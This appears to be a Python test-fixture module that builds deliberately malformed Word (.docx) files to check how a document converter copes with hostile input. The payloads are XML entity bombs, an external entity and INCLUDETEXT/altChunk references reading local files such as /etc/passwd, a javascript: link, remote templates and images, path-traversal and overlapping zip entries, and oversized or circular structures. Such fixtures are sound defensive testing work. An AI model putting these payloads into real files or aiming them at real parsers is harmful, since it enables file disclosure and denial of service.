"""Word files that are whole, whose parts lead to each other, to outside, or to nothing."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Mapping

from hostile.case import PLAIN, Case, tree
from hostile.formats import said
from hostile.images import png

_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
_LINKS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_SPACES = f'{_W} xmlns:r="{_OFFICE}" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"'
_KIND = "application/vnd.openxmlformats-officedocument.wordprocessingml"


def document(
    body: str,
    links: Mapping[str, tuple[str, str, bool]] | None = None,
    more: Mapping[str, str | bytes] | None = None,
    **parts: str,
) -> bytes:
    """A Word file of a body and parts by their names (`styles`, `numbering` …).

    `links` are further relations by their ids: kind, target, and whether that is outside; `more` are further
    files by their paths.
    """
    overrides = "".join(
        f'<Override PartName="/word/{name}.xml" ContentType="{_KIND}.{name}+xml"/>' for name in parts
    )
    told = {f"p{name}": (name, f"{name}.xml", False) for name in parts} | dict(links or {})
    relations = "".join(
        f'<Relationship Id="{id}" Type="{_OFFICE}/{kind}" Target="{target}"{" TargetMode=" + chr(34) + "External" + chr(34) if outside else ""}/>'
        for id, (kind, target, outside) in told.items()
    )
    files: dict[str, str | bytes] = {
        "[Content_Types].xml": f'<Types xmlns="{_TYPES}"><Default Extension="png" ContentType="image/png"/><Default Extension="xml" '
        'ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{_KIND}.document.main+xml"/>{overrides}</Types>',
        "_rels/.rels": f'<Relationships xmlns="{_LINKS}"><Relationship Id="r1" Type="{_OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/document.xml": f"<w:document {_SPACES}><w:body>{body}</w:body></w:document>",
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{_LINKS}">{relations}</Relationships>',
        **{f"word/{name}.xml": text for name, text in parts.items()},
        **(more or {}),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return out.getvalue()


def _blip(id: str) -> str:
    return f'<w:p><w:r><w:drawing><a:blip r:embed="{id}"/></w:drawing></w:r></w:p>'


_ASKED = said("What is a wave?") + said("A disturbance.")
_BOMB = (
    "<!DOCTYPE x [<!ENTITY a 'haha'>"
    + "".join(f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(8))
    + "]>"
)


def _styles(text: str, head: str = "") -> str:
    return f"{head}<w:styles {_W}>{text}</w:styles>"


def _style(id: str, based: str, more: str = "") -> str:
    return f'<w:style w:type="paragraph" w:styleId="{id}"><w:name w:val="{id}"/><w:basedOn w:val="{based}"/>{more}</w:style>'


def _styled(id: str) -> str:
    return f'<w:p><w:pPr><w:pStyle w:val="{id}"/></w:pPr><w:r><w:t>What is a wave?</w:t></w:r></w:p>'


def _numbers(text: str) -> str:
    return f"<w:numbering {_W}>{text}</w:numbering>"


def _listed(number: str, level: str) -> str:
    return f'<w:p><w:pPr><w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="{number}"/></w:numPr></w:pPr><w:r><w:t>x</w:t></w:r></w:p>'


def _of_pictures(count: int, size: int, lost: bool) -> bytes:
    links = {f"i{n}": ("image", f"media/i{n}.png", False) for n in range(count)}
    if lost:
        links["lost"] = ("image", "NULL", False)
    body = "".join(said(f"What shows {n}?") + _blip(f"i{n}") + said("That.") for n in range(count))
    more = {
        f"word/media/i{n}.png": png(8, 8, None, 8, (b"tEXt", b"%d\0" % n + bytes(size))) for n in range(count)
    }
    return document(body, links, more)


def _overlapping() -> bytes:
    """An archive that lists one large part under many names."""
    data = bytearray(document(_ASKED, more={"word/media/a.png": bytes(9_000_000)}))
    start = data.find(b"PK\x01\x02")
    end = data.rfind(b"PK\x05\x06")
    entry = bytes(data[data.rfind(b"PK\x01\x02") : end])
    listed = bytes(data[start:end]) + b"".join(entry.replace(b"a.png", b"%05d" % n) for n in range(15))
    count = listed.count(b"PK\x01\x02").to_bytes(2, "little")
    tail = (
        b"PK\x05\x06\0\0\0\0"
        + count * 2
        + len(listed).to_bytes(4, "little")
        + start.to_bytes(4, "little")
        + b"\0\0"
    )
    return bytes(data[:start]) + listed + tail


_FILES: dict[str, Callable[[], bytes]] = {
    "styles-in-a-circle": lambda: document(_styled("a") + _ASKED, styles=_styles(_style("a", "b") + _style("b", "a"))),
    "styles-on-styles": lambda: document(_styled("s0") * 900 + _ASKED, styles=_styles("".join(_style(f"s{n}", f"s{n + 1}") for n in range(5_000)))),
    "styles-of-entities": lambda: document(_ASKED, styles=_styles("&i;", _BOMB)),
    "styles-of-an-outer-entity": lambda: document(_ASKED, styles=_styles("&x;", "<!DOCTYPE x [<!ENTITY x SYSTEM 'file://@OUTSIDE@/secret.md'>]>")),
    "styles-of-one-name": lambda: document(_styled("a") + _ASKED, styles=_styles(_style("a", "a") * 9_000)),
    "styles-that-are-deep": lambda: document(_ASKED, styles=_styles("<w:x>" * 9_000 + "</w:x>" * 9_000)),
    "numbers-of-entities": lambda: document(_listed("1", "0") + _ASKED, numbering=_BOMB + _numbers("&i;")),
    "numbers-in-a-circle": lambda: document(_listed("1", "0") + _ASKED, numbering=_numbers('<w:abstractNum w:abstractNumId="0"><w:numStyleLink w:val="a"/></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>'), styles=_styles(_style("a", "a", '<w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr>'))),
    "numbers-of-many-digits": lambda: document(_listed("9" * 5_000, "9" * 5_000) + _listed("-1", "-1") + _listed("x", "y") + _ASKED, numbering=_numbers('<w:num w:numId="x"/>')),
    "levels-beyond": lambda: document("".join(_listed("1", str(n)) for n in range(2_000)) + _ASKED, numbering=_numbers("")),
    "notes-of-entities": lambda: document(_ASKED, footnotes=_BOMB + f"<w:footnotes {_W}>&i;</w:footnotes>"),
    "notes-that-call-themselves": lambda: document('<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p>' + _ASKED, footnotes=f'<w:footnotes {_W}><w:footnote w:id="1"><w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p></w:footnote></w:footnotes>'),
    "comments-of-markup": lambda: document(_ASKED, comments=f'<w:comments {_W}><w:comment w:id="1">{said("&lt;script&gt;")}</w:comment></w:comments>'),
    "links-that-run": lambda: document('<w:p><w:hyperlink r:id="h"><w:r><w:t>What is it?</w:t></w:r></w:hyperlink></w:p>' + _ASKED, {"h": ("hyperlink", "javascript:alert(1)", True)}),
    "fields-that-include": lambda: document('<w:p><w:r><w:instrText>INCLUDETEXT "/etc/passwd"</w:instrText></w:r><w:fldSimple w:instr="INCLUDEPICTURE http://192.0.2.1/x.png"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>' + _ASKED),
    "chunks-of-others": lambda: document('<w:altChunk r:id="c"/>' + _ASKED, {"c": ("aFChunk", "file:///etc/passwd", True)}),
    "objects-inside": lambda: document('<w:p><w:r><w:object><a:OLEObject r:id="o"/></w:object></w:r></w:p>' + _ASKED, {"o": ("oleObject", "embeddings/o.bin", False)}, {"word/embeddings/o.bin": bytes(9_000_000)}),
    "template-outside": lambda: document(_ASKED, {"t": ("attachedTemplate", "http://192.0.2.1/x.dotm", True)}),
    "parts-in-a-circle": lambda: document(_ASKED, {"d": ("officeDocument", "document.xml", False)}),
    "relations-of-many": lambda: document(_ASKED, {f"h{n}": ("hyperlink", "x", True) for n in range(60_000)}),
    "relations-of-entities": lambda: document(_ASKED, more={"word/_rels/document.xml.rels": _BOMB + f'<Relationships xmlns="{_LINKS}">&i;</Relationships>'}),
    "types-of-entities": lambda: document(_ASKED, more={"[Content_Types].xml": _BOMB + f'<Types xmlns="{_TYPES}">&i;</Types>'}),
    "paths-that-climb": lambda: document(_ASKED + _blip("i"), {"i": ("image", "../../../outside/secret.png", False)}, {"../../outside/x.png": b"x", "/etc/x.png": b"x", "..\\\\x.png": b"x", "a\nb.png": b"x"}),
    "same-part-twice": lambda: document(_ASKED, more={"WORD/DOCUMENT.XML": "<x/>", "word/./document.xml": "<y/>"}),
    "parts-that-overlap": _overlapping,
    "40-pictures-of-4-megabytes": lambda: _of_pictures(40, 4_800_000, lost=False),
    "40-pictures-and-a-lost-one": lambda: _of_pictures(40, 4_800_000, lost=True),
    "900-pictures": lambda: _of_pictures(900, 9, lost=False),
    "picture-of-large-parts": lambda: document(said("What is it?") + _blip("i") + said("That."), {"i": ("image", "media/i.png", False)}, {"word/media/i.png": png(6_300, 6_300)}),
    "table-of-3000-columns": lambda: document(_ASKED + "<w:tbl>" + ("<w:tr>" + f"<w:tc>{said('x')}</w:tc>" * 3_000 + "</w:tr>") * 3 + "</w:tbl>"),
    "table-of-20000-rows": lambda: document(_ASKED + "<w:tbl>" + f"<w:tr><w:tc>{said('x')}</w:tc><w:tc>{said('y')}</w:tc></w:tr>" * 20_000 + "</w:tbl>"),
    "cells-merged-on": lambda: document(_ASKED + "<w:tbl>" + '<w:tr><w:tc><w:tcPr><w:vMerge/><w:gridSpan w:val="900"/></w:tcPr><w:p/></w:tc></w:tr>' * 900 + "</w:tbl>"),
    "deep-content": lambda: document("<w:sdt><w:sdtContent>" * 90 + _ASKED + "</w:sdtContent></w:sdt>" * 90),
    "deep-elements": lambda: document("<w:p>" + "<w:ins>" * 200 + "<w:r><w:t>What is it?</w:t></w:r>" + "</w:ins>" * 200 + "</w:p>" + _ASKED),
    "alternatives": lambda: document('<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice>' * 60 + _ASKED + "</mc:Choice></mc:AlternateContent>" * 60),
    "deleted-text": lambda: document("<w:p><w:del><w:r><w:delText>x</w:delText></w:r></w:del></w:p>" * 20_000 + _ASKED),
    "bookmarks": lambda: document('<w:p><w:bookmarkStart w:id="1" w:name="a"/></w:p>' * 30_000 + _ASKED),
    "long-run": lambda: document(said("word " * 380_000) + _ASKED),
    "marks-in-runs": lambda: document(said("*_`[](#|~$\\&lt;" * 9_000) + _ASKED),
    "bold-runs": lambda: document("<w:p>" + ("<w:r><w:rPr><w:b/></w:rPr><w:t>x</w:t></w:r><w:r><w:t>y</w:t></w:r>") * 20_000 + "</w:p>" + _ASKED),
    "breaks-in-a-run": lambda: document("<w:p><w:r>" + "<w:t>x</w:t><w:br/>" * 40_000 + "</w:r></w:p>" + _ASKED),
    "sums-of-sums": lambda: document(said("What is it?") + "<w:p><m:oMath>" + "<m:nary><m:e>" * 90 + "<m:r><m:t>x</m:t></m:r>" + "</m:e></m:nary>" * 90 + "</m:oMath></w:p>"),
    "many-formulas": lambda: document((said("What is it?") + "<w:p><m:oMath><m:f><m:num><m:r><m:t>x</m:t></m:r></m:num><m:den><m:r><m:t>2</m:t></m:r></m:den></m:f></m:oMath></w:p>") * 3_000),
    "matrix": lambda: document(said("What is it?") + "<w:p><m:oMath><m:m>" + ("<m:mr>" + "<m:e><m:r><m:t>1</m:t></m:r></m:e>" * 200 + "</m:mr>") * 200 + "</m:m></m:oMath></w:p>"),
    "other-letters-in-xml": lambda: document(said("&#xd800;&#0;&#xffff;") + _ASKED),
    "utf-16-parts": lambda: document("", more={"word/document.xml": f"<?xml version='1.0' encoding='utf-16'?><w:document {_SPACES}><w:body>{_ASKED}</w:body></w:document>".encode("utf-16")}),
}  # fmt: skip

_TOGETHER = {f"a{n}.docx": (lambda: _of_pictures(12, 4_800_000, lost=False)) for n in range(8)}

CASES = [
    *(
        Case("archives", f"word-{name}", tree({"a.docx": make, "plain.md": PLAIN}))
        for name, make in _FILES.items()
    ),
    Case(
        "archives",
        "word-8-files-of-pictures",
        tree(_TOGETHER),
        ("build", ".", "-o", "out", "--only", "deck"),
    ),
]
